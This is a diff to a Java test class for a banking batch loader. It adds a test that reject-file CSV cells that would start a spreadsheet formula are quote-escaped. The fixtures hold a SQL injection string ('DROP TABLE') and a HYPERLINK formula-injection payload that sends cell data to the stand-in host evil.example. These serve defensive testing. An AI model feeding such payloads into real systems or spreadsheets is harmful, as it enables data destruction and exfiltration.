@@ -328,7 +328,7 @@ class BadInputTest extends ScenarioTest {
         String evil = "'); DROP TABLE x;--";
         h.drop(load(d), RecordLines.record(h.stream(), evil).with("USER_CODE", "';--").with("ORIG_STAT", "\"\\'").line() + "\n"
                 + records("8", 5));
-        h.drop(trigger(d), ctl(d, 6));
+        h.drop(trigger(d), ctl(d, 25));
         age(load(d), trigger(d));
 
         RunOutcome o = h.run(d);
@@ -337,5 +337,39 @@ class BadInputTest extends ScenarioTest {
         assertThat(h.rows("SELECT ACCT_I, USER_CODE, ORIG_STAT FROM PLAN_BALN_SEGM_MSTR WHERE EFFT_D = ? AND ACCT_I = ?", d, evil))
                 .containsExactly(Map.of("ACCT_I", evil, "USER_CODE", "';--", "ORIG_STAT", "\"\\'"));
         assertThat(h.number("SELECT COUNT(*) FROM PLAN_BALN_SEGM_MSTR WHERE EFFT_D = ?", d)).isEqualTo(6);
+    }
+
+    /**
+     * The reject file goes back to the source system and is opened in spreadsheets: a cell that a spreadsheet would
+     * run as a formula (it starts with = + - @, a tab or a carriage return) starts with a quote there; a plain number
+     * stays as it is; the reject table keeps the value unchanged.
+     */
+    @Test
+    void a_reject_file_cell_never_starts_a_formula() throws IOException {
+        LocalDate d = day(15);
+        String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+        String lines = RecordLines.record(h.stream(), "F001").with("CURR_MIN_PAYT_DUE", hyperlink).line() + "\n"
+                + RecordLines.record(h.stream(), "F002").with("CURR_MIN_PAYT_DUE", "+1+2").line() + "\n"
+                + RecordLines.record(h.stream(), "F003").with("CURR_MIN_PAYT_DUE", "@SUM(A1)").line() + "\n"
+                + RecordLines.record(h.stream(), "F004").with("CURR_MIN_PAYT_DUE", "-12.34567").line() + "\n"
+                + "=1+2|too|few\n"
+                + records("F1", 20);
+        h.drop(load(d), lines);
+        h.drop(trigger(d), ctl(d, 25));
+        age(load(d), trigger(d));
+
+        RunOutcome o = h.run(d);
+
+        assertThat(unit(o, "BCFINSG_CA")).containsEntry("PRCS_STATUS", "COMPLETED");
+        java.util.List<String> csv = Files.readAllLines(h.reports().resolve("PLAN_BALN_SEGM_MSTR_" + d.format(DateTimeFormatter.BASIC_ISO_DATE)
+                + "_BCFINSG_CA_REJECTS.csv"));
+        assertThat(csv).hasSize(6);
+        assertThat(csv.get(1)).startsWith("1,INVALID_VALUE,CURR_MIN_PAYT_DUE,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",");
+        assertThat(csv.get(2)).startsWith("2,INVALID_VALUE,CURR_MIN_PAYT_DUE,'+1+2,");
+        assertThat(csv.get(3)).startsWith("3,INVALID_VALUE,CURR_MIN_PAYT_DUE,'@SUM(A1),");
+        assertThat(csv.get(4)).startsWith("4,INVALID_VALUE,CURR_MIN_PAYT_DUE,-12.34567,");
+        assertThat(csv.get(5)).startsWith("5,FIELD_COUNT,,'=1+2|too|few,'=1+2|too|few");
+        assertThat(h.rows("SELECT VALU_CHNG_BFOR_X FROM UTIL_TRSF_EROR_RQM3 WHERE PRCS_INST_ID = ? AND LINE_NUMBER = 1",
+                unit(o, "BCFINSG_CA").get("PRCS_INST_ID")).get(0).get("VALU_CHNG_BFOR_X")).isEqualTo(hyperlink);
     }
 }
